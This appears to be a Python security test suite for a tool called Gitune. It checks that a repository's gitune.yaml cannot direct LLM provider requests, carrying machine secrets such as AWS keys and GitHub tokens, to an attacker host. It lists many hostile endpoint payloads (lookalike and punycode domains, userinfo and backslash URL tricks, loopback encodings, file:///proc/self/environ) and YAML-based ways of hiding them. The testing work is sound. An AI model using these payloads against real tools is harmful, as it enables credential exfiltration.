"""What a repository can write to be sent a secret of the machine it is read on, against a server that waits for it.

Each attack has its control: the same words, where whoever runs Gitune has named the address, do bring the secret there.
"""

from __future__ import annotations

import asyncio
import json
import os
import signal
from collections.abc import Iterable, Iterator, Mapping, Sequence
from itertools import cycle, product
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from controller.cli.main import run
from controller.ports import ObserveRequest
from controller.specs import load_repositories, load_settings
from controller.testing.wire import answer
from controller.wiring import Where, open_ports
from tests.action.workflow import Workflow, bare_and_clone
from tests.adversary.thief import Thief
from tests.daemon.process import running
from tests.e2e.stand import Repository, rows, spec
from tests.forge.stand_in import StandIn
from tests.loopback import answering
from tests.providers.test_google_credentials import pem_text, service_account

HEAD = "apiVersion: gitune.dev/v1alpha1\nkind: Controller\ndefaultProvider: llm\nproviders:\n"
# Every secret that a machine like this one has, by its variable.
SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "stolen-aws-secret-access-key",
    "GEMINI_API_KEY": "stolen-gemini-api-key",
    "GITHUB_TOKEN": "stolen-github-token",
    "ACME_KEY": "stolen-key-of-acme",
    "ACME_TOKEN": "stolen-forge-token-of-acme",
    "EVIL_KEY": "key-of-the-other-tenant-itself",
}
ACCOUNT = "ya29.stolen-token-of-an-account"
NAMED = {  # what whoever runs Gitune trusts: nothing of it is the thief's
    "GITUNE_TRUSTED_ENDPOINTS": "https://llm.acme.test/v1/acme http://127.0.0.1:9",
    "GOOGLE_GEMINI_BASE_URL": "https://gateway.test/v1/acme",
}
KNOWN = "https://generativelanguage.googleapis.com"

# Addresses that could be asked: {plain} and {secured} are ports of this machine.
ASKED = (
    "https://thief.test",
    "https://thief.test:8443",
    "https://thief.test/v1/acme",
    "https://Thief.Test./",
    "https://generativelanguage.googleapis.com.thief.test",
    "https://generativelanguage-googleapis.com",
    "https://generativelanguage.googleapis.co",
    "https://generativelanguage.googleapis.com:8443",
    "https://googleapis.com",
    "https://x.generativelanguage.googleapis.com",
    "https://xn--enerativelanguage-2jd.googleapis.com",
    "https://llm.acme.test",
    "https://llm.acme.test/v1",
    "https://llm.acme.test/v1/evil",
    "https://llm.acme.test/v1/acme2",
    "https://llm.acme.test:444/v1/acme",
    "https://llm.acme.test.thief.test/v1/acme",
    "https://sub.llm.acme.test/v1/acme",
    "https://gateway.test/v1/evil",
    "https://gateway.test/v1/acme/evil",
    "https://gateway.test",
    "http://127.0.0.1:{plain}",
    "http://localhost:{plain}",
    "HTTP://LOCALHOST:{plain}/",
    "http://127.0.0.1:{plain}/v1/acme",
    "https://127.0.0.1:{secured}",
)
# Addresses that two readers could take for two things, or that a secret would travel to in the clear.
NEVER_ASKED = (
    "https://generativelanguage.googleapis.com@thief.test",
    "https://generativelanguage.googleapis.com:443@thief.test",
    "https://@thief.test",
    "https://thief.test\\\\@generativelanguage.googleapis.com",
    "https://thief.test\\\\.generativelanguage.googleapis.com",
    "https://thief.test#.generativelanguage.googleapis.com",
    "https://thief.test?x=generativelanguage.googleapis.com",
    "https://llm.acme.test/v1/acme/../evil",
    "https://llm.acme.test/v1/acme/%2e%2e/evil",
    "https://llm.acme.test/v1/acme/..%2fevil",
    "https://llm.acme.test/v1/acme//evil",
    "https://g\\u0435nerativelanguage.googleapis.com",
    "https://\\uff47enerativelanguage.googleapis.com",
    "https://generativelanguage\\u3002googleapis.com",
    " https://thief.test",
    "https://thief.test\\t",
    "http://thief.test",
    "http://generativelanguage.googleapis.com",
    "http://0.0.0.0:{plain}",
    "http://2130706433:{plain}",
    "http://127.1:{plain}",
    "http://0x7f000001:{plain}",
    "http://[::ffff:127.0.0.1]:{plain}",
    "http://localhost.thief.test",
    "file:///proc/self/environ",
)
# What is sent: the line of apiKeyEnv, the type of provider, the text that would arrive, what else the machine has.
SENT = {
    "another secret": ("apiKeyEnv: AWS_SECRET_ACCESS_KEY", "gemini", "AWS_SECRET_ACCESS_KEY"),
    "the default key": ("", "gemini", "GEMINI_API_KEY"),
    "a forge's token": ("apiKeyEnv: GITHUB_TOKEN", "gemini", "GITHUB_TOKEN"),
    "by type local": ("apiKeyEnv: AWS_SECRET_ACCESS_KEY", "local", "AWS_SECRET_ACCESS_KEY"),
    "an account": ("apiKeyEnv: NO_SUCH_VARIABLE", "gemini", ACCOUNT),
}


@pytest.fixture(scope="module")
def thief(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Thief]:
    hosts = {urlsplit(text.split("{", maxsplit=1)[0].rstrip(":")).hostname or "" for text in (*ASKED, KNOWN)}
    names = {host.rstrip(".") for host in hosts} - {"127.0.0.1", ""}
    with Thief().listening(tmp_path_factory.mktemp("thief"), *sorted(names)) as made:
        yield made


@pytest.fixture(scope="module")
def account(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A credentials file whose tokens are handed out on this machine."""
    from http.server import BaseHTTPRequestHandler  # noqa: PLC0415 - a server for this alone

    class Tokens(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.wfile.write(answer({"access_token": ACCOUNT, "expires_in": 3600}))

        def log_message(self, *_: object) -> None:
            pass

    file = tmp_path_factory.mktemp("account") / "credentials.json"
    with answering(Tokens) as url:
        file.write_text(json.dumps(service_account(pem_text(), url)))
        yield file


@pytest.fixture
def machine(thief: Thief, account: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> dict[str, str]:
    """The environment of a machine with many secrets, whose every way into the world leads to the thief."""
    thief.forget()
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("CLOUDSDK_CONFIG", raising=False)
    monkeypatch.setenv("HTTPS_PROXY", thief.tunnel.url)
    monkeypatch.setenv("SSL_CERT_FILE", str(thief.certificate))
    for name, value in {**SECRETS, **NAMED, "GOOGLE_APPLICATION_CREDENTIALS": str(account)}.items():
        monkeypatch.setenv(name, value)
    return dict(os.environ)


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    """A stranger's checkout, without its gitune.yaml."""
    made = Repository(tmp_path / "strangers")
    made.root.mkdir()
    made.git("init", "-q", "-b", "main")
    made.write("specs/numbers.yaml", spec())
    made.write("specs/rows.jsonl", rows())
    made.commit()
    return made


def provider(endpoint: str, key_line: str = "", kind: str = "gemini") -> str:
    lines = [f"    type: {kind}", f'    endpoint: "{endpoint}"', *([f"    {key_line}"] if key_line else [])]
    return HEAD + "  llm:\n" + "\n".join(lines) + "\n"


def at(thief: Thief, endpoint: str) -> str:
    return endpoint.replace("{plain}", str(thief.plain)).replace("{secured}", str(thief.secured))


async def used(where: Where, environ: Mapping[str, str]) -> str:
    """Every provider of a repository, opened as all commands open it, then looked at and asked; what went wrong."""
    wrong = []
    async with open_ports(where, environ=environ) as opened:
        for one in opened.ports.providers.values():
            seen = await one.observe(ObserveRequest(frozenset({"tunedModels/x"})))
            wrong.append(f"{seen.error} {seen.hint}")
            wrong += [f"{finding.message} {finding.fix}" for finding in await one.check()]
    return "\n".join(wrong)


def tried(repository: Repository, text: str, environ: Mapping[str, str]) -> str:
    repository.write("gitune.yaml", text)
    return asyncio.run(used(Where(repository.root, worktree=True), environ))


def trusted(environ: Mapping[str, str], endpoint: str) -> dict[str, str]:
    return {**environ, "GITUNE_TRUSTED_ENDPOINTS": endpoint, "GOOGLE_GEMINI_BASE_URL": ""}


def rotated(first: Sequence[str], second: Iterable[str], each: int) -> list[tuple[str, str]]:
    """Each of the first with so many of the second, which take turns: all pairs would take minutes."""
    turns = cycle(second)
    return [(one, next(turns)) for one in first for _ in range(each)]


@pytest.mark.parametrize(("endpoint", "sent"), rotated(ASKED, SENT, 2))
def test_an_address_that_only_the_repository_names_is_sent_nothing(
    endpoint: str, sent: str, thief: Thief, machine: dict[str, str], repository: Repository
) -> None:
    key_line, kind, secret = SENT[sent]
    address, secret = at(thief, endpoint), SECRETS.get(secret, secret)
    text = provider(address, key_line, kind)
    told = tried(repository, text, machine)
    assert not thief.was_reached, thief.heads
    assert "gitune.yaml:7:15: GT334 " in told
    assert f"gitune trust {address.lower().removesuffix('./').rstrip('/')}" in told
    assert not [value for value in SECRETS.values() if value in told]
    tried(repository, text, trusted(machine, address))
    assert thief.has(secret), "the check would not see a breach"


@pytest.mark.parametrize(("endpoint", "kind"), rotated(NEVER_ASKED, ("gemini", "local"), 1))
def test_an_address_that_reads_in_two_ways_is_asked_nothing_even_if_somebody_named_it(
    endpoint: str, kind: str, thief: Thief, machine: dict[str, str], repository: Repository
) -> None:
    repository.write("gitune.yaml", provider(at(thief, endpoint), "apiKeyEnv: AWS_SECRET_ACCESS_KEY", kind))
    where = Where(repository.root, worktree=True)
    settings, problems = load_settings((repository.root / "gitune.yaml").read_bytes())
    if not problems:
        written = settings.providers["llm"].endpoint or ""
        for environ in (machine, {**machine, "GITUNE_TRUSTED_ENDPOINTS": f"https://{urlsplit(written).hostname}"}):
            try:
                told = asyncio.run(used(where, environ))
            except Exception as error:  # noqa: BLE001 - what cannot be trusted is refused as a slip of the variable
                told = str(error)
            assert "the endpoint " in told, told
    assert not thief.was_reached, thief.heads
    tried(
        repository,
        provider("https://thief.test", "apiKeyEnv: AWS_SECRET_ACCESS_KEY", kind),
        trusted(machine, "https://thief.test"),
    )
    assert thief.has(SECRETS["AWS_SECRET_ACCESS_KEY"])


TRUSTED = '  llm: {type: gemini, endpoint: "https://llm.acme.test/v1/acme", apiKeyEnv: ACME_KEY}\n'
# One wish in many dresses: YAML's own ways to say a thing twice, or to say it where nobody looks.
DRESSES = {
    "anchors": '  llm: {type: gemini, endpoint: &there "ADDRESS", apiKeyEnv: &what AWS_SECRET_ACCESS_KEY}\n'
    "  other: {type: gemini, endpoint: *there, apiKeyEnv: *what}\n",
    "escapes": '  llm: {type: gemini, endpoint: "ADDRESS", apiKeyEnv: "\\x41WS_SECRET_ACCESS_KEY"}\n',
    "escapes in a key": '  llm: {type: gemini, "\\x65ndpoint": "ADDRESS", apiKeyEnv: AWS_SECRET_ACCESS_KEY}\n',
    "a folded text": "  llm:\n    apiKeyEnv: AWS_SECRET_ACCESS_KEY\n    type: gemini\n"
    "    endpoint: >-\n      ADDRESS\n",
    "not the default provider": TRUSTED
    + '  hidden: {type: gemini, endpoint: "ADDRESS", apiKeyEnv: AWS_SECRET_ACCESS_KEY}\n',
    "under the name of a known one": TRUSTED
    + '  local: {type: gemini, endpoint: "ADDRESS", apiKeyEnv: AWS_SECRET_ACCESS_KEY}\n',
    "beside a trusted one": TRUSTED
    + '  second: {type: gemini, endpoint: "ADDRESS", apiKeyEnv: AWS_SECRET_ACCESS_KEY}\n',
    "a gigantic comment before it": "#" * 5000 + "\n  llm: {type: gemini, endpoint: ADDRESS,\n"
    "    apiKeyEnv: AWS_SECRET_ACCESS_KEY}\n",
}
REFUSED_DRESSES = {
    "a key that is there twice": f'  llm: {{type: gemini, endpoint: "{KNOWN}", endpoint: "ADDRESS"}}\n',
    "a merge key": '  llm: &a {type: gemini, endpoint: "ADDRESS"}\n  more: {<<: *a}\n',
    "a tag": "  llm: {type: gemini, endpoint: !!str ADDRESS}\n",
    "a list of endpoints": f'  llm: {{type: gemini, endpoint: ["{KNOWN}", "ADDRESS"]}}\n',
    "a second document": f'  llm: {{type: gemini, endpoint: "{KNOWN}"}}\n---\n{HEAD}'
    '  llm: {type: gemini, endpoint: "ADDRESS"}\n',
    "a variable in the address": '  llm: {type: gemini, endpoint: "ADDRESS/${AWS_SECRET_ACCESS_KEY}"}\n',
    "a list of trusted addresses": '  llm: {type: gemini, endpoint: "ADDRESS", trustedEndpoints: ["ADDRESS"]}\n',
    "trust for all": 'trustedEndpoints: ["ADDRESS"]\n  llm: {type: gemini, endpoint: "ADDRESS"}\n',
}


@pytest.mark.parametrize("dress", DRESSES)
def test_no_dress_of_yaml_hides_an_address(
    dress: str, thief: Thief, machine: dict[str, str], repository: Repository
) -> None:
    text = HEAD + DRESSES[dress].replace("ADDRESS", f"http://127.0.0.1:{thief.plain}")
    assert "GT334 AWS_SECRET_ACCESS_KEY is not sent" in tried(repository, text, machine)
    assert not thief.has(SECRETS["AWS_SECRET_ACCESS_KEY"])
    assert not [head for head in thief.heads if f"Host: 127.0.0.1:{thief.plain}" in head]
    tried(repository, text, trusted(machine, f"http://127.0.0.1:{thief.plain}"))
    assert thief.has(SECRETS["AWS_SECRET_ACCESS_KEY"])


@pytest.mark.parametrize("dress", REFUSED_DRESSES)
def test_what_is_not_read_for_sure_is_not_read_at_all(
    dress: str, thief: Thief, machine: dict[str, str], repository: Repository
) -> None:
    address = f"http://127.0.0.1:{thief.plain}"
    for environ in (machine, trusted(machine, address)):
        try:
            told = tried(repository, HEAD + REFUSED_DRESSES[dress].replace("ADDRESS", address), environ)
        except Exception as error:  # noqa: BLE001 - most are refused as they are read
            told = str(error)
        assert "GT" in told or "the endpoint" in told, told
        assert not thief.was_reached
    tried(repository, HEAD + f'  llm: {{type: gemini, endpoint: "{address}"}}\n', trusted(machine, address))
    assert thief.has(SECRETS["GEMINI_API_KEY"])


@pytest.mark.parametrize("endpoint", [KNOWN, f"{KNOWN}/", f"{KNOWN}:443", KNOWN.upper(), f"{KNOWN}.", f"{KNOWN}/below"])
def test_the_address_that_the_type_knows_is_sent_the_key_that_is_named(
    endpoint: str, thief: Thief, machine: dict[str, str], repository: Repository
) -> None:
    tried(repository, provider(endpoint, "apiKeyEnv: ACME_KEY"), machine)
    assert thief.has(SECRETS["ACME_KEY"])
    assert not thief.has(SECRETS["GEMINI_API_KEY"])
    assert {target for target, _ in thief.tunnel.asked} == {"generativelanguage.googleapis.com:443"}


PLACES = {  # words of the command, and whether it asks a provider at all
    "plan": (("plan",), True),
    "plan, offline": (("plan", "--offline"), False),
    "plan of a base": (("plan", "--base", "HEAD"), True),
    "plan explained": (("plan", "--explain", "numbers"), True),
    "plan as JSON": (("plan", "-o", "json"), True),
    "plan by another file": (("--config", "gitune.yaml", "plan"), True),
    "apply": (("apply",), True),
    "doctor": (("doctor",), True),
    "status": (("status",), False),
    "validate": (("validate",), False),
    "adopt": (("adopt", "numbers", "tunedModels/x"), True),
    "trust": (("trust",), False),
}


@pytest.mark.parametrize(("place", "sent"), rotated([*PLACES], SENT, 2))
def test_no_command_sends_it(
    place: str,
    sent: str,
    thief: Thief,
    repository: Repository,
    monkeypatch: pytest.MonkeyPatch,
    *,
    machine: dict[str, str],
    capfd: pytest.CaptureFixture[str],
) -> None:
    words, asks = PLACES[place]
    key_line, kind, name = SENT[sent]
    address, secret = f"http://127.0.0.1:{thief.plain}", SECRETS.get(name, name)
    repository.write("gitune.yaml", provider(address, key_line, kind))
    repository.commit()
    monkeypatch.chdir(repository.root)
    run(words)
    assert not thief.was_reached, thief.heads
    shown = "".join(capfd.readouterr())
    assert not [value for value in (*SECRETS.values(), ACCOUNT) if value in shown]
    assert ("GT334" in shown) is asks
    for variable, value in trusted(machine, address).items():
        monkeypatch.setenv(variable, value)
    run(words)
    assert thief.has(secret) is asks


def test_what_was_trusted_is_asked_for_anew_between_the_plan_and_the_apply(
    thief: Thief, machine: dict[str, str], repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    del machine
    address = f"http://127.0.0.1:{thief.plain}/v1/acme"
    monkeypatch.chdir(repository.root)
    repository.write("gitune.yaml", provider(address, "apiKeyEnv: ACME_KEY"))
    repository.commit()
    assert run(["trust", address]) == 0
    run(["plan"])
    assert thief.has(SECRETS["ACME_KEY"])
    for changed in (
        provider(address, "apiKeyEnv: AWS_SECRET_ACCESS_KEY"),
        provider(address.replace("acme", "evil"), "apiKeyEnv: ACME_KEY"),
        provider(f"http://localhost:{thief.plain}/v1/acme", "apiKeyEnv: ACME_KEY"),
        provider(f"https://127.0.0.1:{thief.secured}/v1/acme", "apiKeyEnv: ACME_KEY"),
        provider(address, "apiKeyEnv: NO_SUCH_VARIABLE"),
    ):
        thief.forget()
        repository.write("gitune.yaml", changed)
        repository.commit()
        run(["apply"])
        assert not thief.was_reached, changed
    repository.write("gitune.yaml", provider(address, "apiKeyEnv: ACME_KEY"))
    repository.commit()
    run(["apply"])
    assert thief.has(SECRETS["ACME_KEY"])
    assert run(["trust", "--remove", address]) == 0
    thief.forget()
    run(["apply"])
    assert not thief.was_reached


def test_trust_is_for_one_clone_and_no_other(
    thief: Thief, machine: dict[str, str], repository: Repository, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    del machine
    address = f"http://127.0.0.1:{thief.plain}"
    repository.write("gitune.yaml", provider(address))
    repository.commit()
    monkeypatch.chdir(repository.root)
    assert run(["trust", address]) == 0
    repository.git("clone", "-q", str(repository.root), str(tmp_path / "again"))
    monkeypatch.chdir(tmp_path / "again")
    run(["plan"])
    assert not thief.was_reached
    monkeypatch.chdir(repository.root / "specs")
    run(["plan"])
    assert thief.has(SECRETS["GEMINI_API_KEY"]), "in a folder of the one that is trusted"


# The tenant "evil" of a daemon: what its own gitune.yaml names, beside its own entry in the operator's file.
TENANT = {
    "another's key": "apiKeyEnv: ACME_KEY",
    "another's forge token": "apiKeyEnv: ACME_TOKEN",
    "the daemon's forge token": "apiKeyEnv: GITHUB_TOKEN",
    "the daemon's cloud": "apiKeyEnv: AWS_SECRET_ACCESS_KEY",
    "the key that nobody listed": "",
    "the daemon's account": "apiKeyEnv: NO_SUCH_VARIABLE",
}


@pytest.mark.parametrize(("wish", "kind"), list(product(TENANT, ("gemini", "local"))))
def test_a_tenant_of_a_daemon_reads_no_secret_but_its_own(
    wish: str, kind: str, thief: Thief, machine: dict[str, str], repository: Repository
) -> None:
    address = f"http://127.0.0.1:{thief.plain}"
    listed = (
        "apiVersion: gitune.dev/v1alpha1\nkind: Daemon\nrepositories:\n"
        "- {name: acme, root: /srv/acme, tokenEnv: ACME_TOKEN, variables: [ACME_KEY]}\n"
        f'- {{name: evil, root: {repository.root}, variables: [EVIL_KEY], trustedEndpoints: ["{address}"]}}\n'
    )
    (acme, evil), problems = load_repositories(listed.encode(), "repositories.yaml", machine)
    assert problems == ()

    def looked(key_line: str, entry: object = evil) -> str:
        repository.write("gitune.yaml", provider(address, key_line, kind))
        where = Where(repository.root, worktree=True, listed=evil if entry is evil else acme)
        return asyncio.run(used(where, machine))

    told = looked(TENANT[wish])
    stolen = [value for name, value in SECRETS.items() if name != "EVIL_KEY" and thief.has(value)]
    assert stolen == []
    assert not thief.has(ACCOUNT)
    if kind == "gemini" or TENANT[wish]:
        assert "is not set" in told
        assert not thief.was_reached
    thief.forget()
    looked("apiKeyEnv: EVIL_KEY")
    assert thief.has(SECRETS["EVIL_KEY"]), "its own, where the operator has named both"
    thief.forget()
    assert "trustedEndpoints" in looked("apiKeyEnv: ACME_KEY", acme)
    assert not thief.was_reached, "its own key, and an address that is another's"


@pytest.mark.parametrize("event", ["push", "pull_request", "schedule"])
def test_a_workflow_sends_keys_only_where_its_own_environment_says(
    event: str, thief: Thief, machine: dict[str, str], tmp_path: Path
) -> None:
    del machine
    address = f"http://127.0.0.1:{thief.plain}"
    with StandIn().running() as forge:
        _, clone = bare_and_clone(tmp_path)
        clone.write("gitune.yaml", provider(address, "apiKeyEnv: AWS_SECRET_ACCESS_KEY"))
        clone.write("specs/numbers.yaml", spec())
        clone.write("specs/rows.jsonl", rows())
        base = clone.commit()
        clone.git("push", "-q", "origin", "main")
        forge.tip_of = lambda _: base
        workflow = Workflow(clone, forge, tmp_path / "steps")
        if event == "pull_request":
            clone.git("checkout", "-q", "-b", "change")
            clone.write("specs/numbers.yaml", spec(epochs=3))
            # What a pull request itself says of addresses is not read.
            clone.write("gitune.yaml", provider(f"http://localhost:{thief.plain}", "apiKeyEnv: ACME_KEY"))
            head = clone.commit()
            clone.git("push", "-q", "origin", "change")
            forge.open_pull(1, head, base)

        def step(**environ: str) -> str:
            match event:
                case "push":
                    done = workflow.push(base, **environ)
                case "schedule":
                    done = workflow.schedule(base, **environ)
                case _:
                    done = workflow.pull_request(1, **environ)
            return f"{done.answer.out}{done.answer.err}{done.summary}{done.outputs}"

        told = step()
        assert not thief.was_reached, thief.heads
        assert "GT334" in told
        assert not [value for value in SECRETS.values() if value in told]
        step(GITUNE_TRUSTED_ENDPOINTS=address)
        assert thief.has(SECRETS["AWS_SECRET_ACCESS_KEY"])
        assert not thief.has(SECRETS["ACME_KEY"])
        assert not [head for head in thief.heads if f"localhost:{thief.plain}" in head]


@pytest.mark.slow
def test_the_real_commands_send_nothing_either(
    thief: Thief, machine: dict[str, str], repository: Repository, tmp_path: Path
) -> None:
    address = f"http://127.0.0.1:{thief.plain}"
    repository.write("gitune.yaml", provider(address, "apiKeyEnv: AWS_SECRET_ACCESS_KEY"))
    repository.commit()
    for words in (("plan",), ("apply",)):
        done = repository.gitune(*words)
        assert "GT334" in done.out + done.err
        assert not thief.was_reached, words
    listed = tmp_path / "repositories.yaml"
    listed.write_text(
        "apiVersion: gitune.dev/v1alpha1\nkind: Daemon\nrepositories:\n"
        f'- {{name: evil, root: {repository.root}, variables: [EVIL_KEY], trustedEndpoints: ["{address}"]}}\n'
    )
    with running("--repositories", str(listed), home=tmp_path / "home") as daemon:
        daemon.wait(lambda: daemon.said("pass.ended"))
        assert not thief.was_reached
        assert not [value for value in SECRETS.values() if value in "".join(daemon.lines)]
        repository.write("gitune.yaml", provider(address, "apiKeyEnv: EVIL_KEY"))
        repository.commit()
        daemon.process.send_signal(signal.SIGHUP)  # it would look again by itself, later
        daemon.wait(lambda: thief.has(SECRETS["EVIL_KEY"]))
    thief.forget()
    repository.write("gitune.yaml", provider(address, "apiKeyEnv: AWS_SECRET_ACCESS_KEY"))
    assert repository.gitune("plan", GITUNE_TRUSTED_ENDPOINTS=address).code in {0, 1}
    assert thief.has(SECRETS["AWS_SECRET_ACCESS_KEY"])
